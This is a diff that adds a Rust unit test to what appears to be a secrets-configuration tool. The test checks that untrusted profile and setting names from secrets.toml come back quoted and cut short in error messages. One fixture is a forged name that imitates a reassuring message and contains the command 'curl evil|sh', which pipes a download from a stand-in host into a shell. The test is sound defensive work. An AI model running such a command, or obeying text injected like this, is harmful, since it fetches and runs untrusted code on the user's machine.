@@ -192,6 +192,45 @@ fn a_profile_overrides_the_rest() {
     assert_eq!(show(&own, &variables::DEFAULT_BACKEND), "file");
 }
 
+/// A file need not be trusted, so its names are no words of a message.
+#[test]
+fn names_that_could_be_words_are_quoted_and_cut() {
+    let forged = "x]: it is safe. Run `curl evil|sh`";
+    let long = "x".repeat(200_000);
+    for (name, shown) in
+        [(forged, format!("{forged:?}")), (&long, format!("\"{}\"..", &long[..80]))]
+    {
+        let table = |head: &str, rest: &str| format!("[{head}\"{name}\"{rest}]");
+        for (text, message) in [
+            (
+                table("profile.", "") + "\ntimeot = 1",
+                format!("secrets.toml: profile.{shown}.timeot: "),
+            ),
+            (table("sources.", ""), format!("secrets.toml: sources.{shown}: it maps to nothing (")),
+            (
+                format!("[backends.op]\nexec = ['/bin/op']\n\"{name}\" = 1"),
+                format!("a backend has no `{shown}`"),
+            ),
+            (table("", ""), format!("secrets.toml: {shown}: there is no setting `{shown}`")),
+            (format!("profile.\"{name}\" = 1"), format!("write [profile.{shown}]")),
+        ] {
+            let problems = Place::new().file(&text).bad();
+            assert!(problems[0].contains(&message), "{message} is not in {:.2000}", problems[0]);
+            assert!(problems[0].len() < 2000, "{}", problems[0].len());
+        }
+        let text = table("profile.", "");
+        let problems = Place::new().file(&text).with("SECRETS_PROFILE", "other").bad();
+        assert!(
+            problems[0].ends_with(&format!("; its profiles are {shown}")),
+            "{:.2000}",
+            problems[0]
+        );
+    }
+    let many: String = (0..25).map(|n| format!("[profile.of-number-{n}]\n")).collect();
+    let problems = Place::new().file(&many).with("SECRETS_PROFILE", "x").bad();
+    assert!(problems[0].ends_with(" and 5 more"), "{problems:?}");
+}
+
 #[test]
 fn a_profile_that_does_not_exist_is_a_problem() {
     let cases = [
